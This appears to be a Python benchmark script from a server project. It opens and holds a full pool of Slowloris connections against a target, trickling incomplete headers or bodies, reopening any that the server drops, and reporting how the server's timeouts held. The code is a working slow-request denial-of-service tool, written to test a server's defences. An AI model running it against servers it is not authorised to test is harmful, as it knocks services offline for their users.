#!/usr/bin/env python3
"""Slowloris clients for bench/slowloris_bench.sh.

Holds CONNECTIONS connections to HOST:PORT, each trickling one byte every
INTERVAL seconds and never finishing its request: even-numbered ones the
request line and headers (no blank line ever), odd-numbered ones complete
headers with Content-Length: CONTENT_LENGTH at once, then the body. A
connection the server closes is opened again at once, as an attacker would,
so the pool stays full. Prints "ready N" on stdout once N connections are
open, and on SIGTERM/SIGINT one line of JSON: connections opened, those the
server closed (by end of stream or reset) and how long after the connect was
started (so never less than the server's deadline), by kind, bytes
the server sent (an answer to a timed-out request), connect failures.

Python's standard library only; one thread, non-blocking sockets, epoll.
"""
import argparse
import errno
import json
import selectors
import signal
import socket
import sys
import time

HEADER_SCRIPT = b"POST /runs/batch HTTP/1.1\r\nHost: slowloris\r\nX-Trickle: "


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--target", required=True, help="HOST:PORT")
    ap.add_argument("--connections", type=int, default=1000)
    ap.add_argument("--interval", type=float, default=0.2, help="seconds between one connection's bytes")
    ap.add_argument("--content-length", type=int, default=1000)
    a = ap.parse_args()
    host, port = a.target.rsplit(":", 1)
    addr = (host, int(port))
    body_head = (b"POST /runs/batch HTTP/1.1\r\nHost: slowloris\r\nContent-Type: application/json\r\n"
                 b"Content-Length: %d\r\n\r\n{" % a.content_length)

    sel = selectors.EpollSelector()
    conns = {}  # fileno -> state dict
    stats = {"opened": 0, "connect_failed": 0, "answered_bytes": 0, "answers": [],
             "closed": {"header": [], "body": []}, "ends": {}}
    stopping = [False]

    def stop(*_):
        stopping[0] = True

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)

    def open_one(slot):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        start = time.monotonic()  # before the server can accept it, so before its deadline starts
        err = s.connect_ex(addr)
        if err not in (0, errno.EINPROGRESS):
            s.close()
            stats["connect_failed"] += 1
            return False
        st = {"sock": s, "slot": slot, "kind": "header" if slot % 2 == 0 else "body",
              "connected": False, "start": start, "pos": 0}
        conns[s.fileno()] = st
        sel.register(s, selectors.EVENT_WRITE, st)
        return True

    def send(st, data):
        try:
            st["sock"].send(data)
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            pass  # the peer is gone: the read side tells

    def trickle(st):
        if st["kind"] == "header" and st["pos"] < len(HEADER_SCRIPT):
            b = HEADER_SCRIPT[st["pos"]:st["pos"] + 1]
            st["pos"] += 1
        else:
            b = b"a" if st["kind"] == "header" else b" "
        send(st, b)

    def closed(st, how):
        sel.unregister(st["sock"])
        del conns[st["sock"].fileno()]
        st["sock"].close()
        if st["connected"]:
            stats["closed"][st["kind"]].append(time.monotonic() - st["start"])
            stats["ends"][how] = stats["ends"].get(how, 0) + 1
        else:
            stats["connect_failed"] += 1
        if not stopping[0]:
            open_one(st["slot"])

    for i in range(a.connections):
        if not open_one(i):
            time.sleep(0.01)
    ready_said = False
    slices = 10
    slice_no = 0
    next_tick = time.monotonic() + a.interval / slices
    while not stopping[0]:
        timeout = max(0.0, next_tick - time.monotonic())
        try:
            events = sel.select(timeout)
        except InterruptedError:
            continue
        for key, mask in events:
            st = key.data
            if not st["connected"]:
                err = st["sock"].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    closed(st, "connect_error")
                    continue
                st["connected"] = True
                stats["opened"] += 1
                sel.modify(st["sock"], selectors.EVENT_READ, st)
                if st["kind"] == "body":
                    send(st, body_head)
                else:
                    trickle(st)
                continue
            try:
                data = st["sock"].recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except ConnectionResetError:
                closed(st, "reset")
                continue
            except OSError as e:
                closed(st, errno.errorcode.get(e.errno, str(e.errno)))
                continue
            if not data:
                closed(st, "eof")
                continue
            stats["answered_bytes"] += len(data)
            if len(stats["answers"]) < 3:
                stats["answers"].append(data[:120].decode("latin-1"))
        if not ready_said and sum(1 for st in conns.values() if st["connected"]) >= a.connections:
            print("ready %d" % a.connections, flush=True)
            ready_said = True
        now = time.monotonic()
        if now >= next_tick:
            for st in list(conns.values()):
                if st["connected"] and st["slot"] % slices == slice_no:
                    trickle(st)
            slice_no = (slice_no + 1) % slices
            next_tick += a.interval / slices
            if next_tick < now:
                next_tick = now + a.interval / slices

    def summary(xs):
        if not xs:
            return None
        xs = sorted(xs)
        return {"n": len(xs), "min_s": round(xs[0], 3), "median_s": round(xs[len(xs) // 2], 3),
                "max_s": round(xs[-1], 3)}

    out = {"opened": stats["opened"], "open_at_end": sum(1 for st in conns.values() if st["connected"]),
           "connect_failed": stats["connect_failed"], "answered_bytes": stats["answered_bytes"],
           "answers": stats["answers"], "ends": stats["ends"],
           "closed_by_server": {k: summary(v) for k, v in stats["closed"].items()}}
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    sys.exit(main())
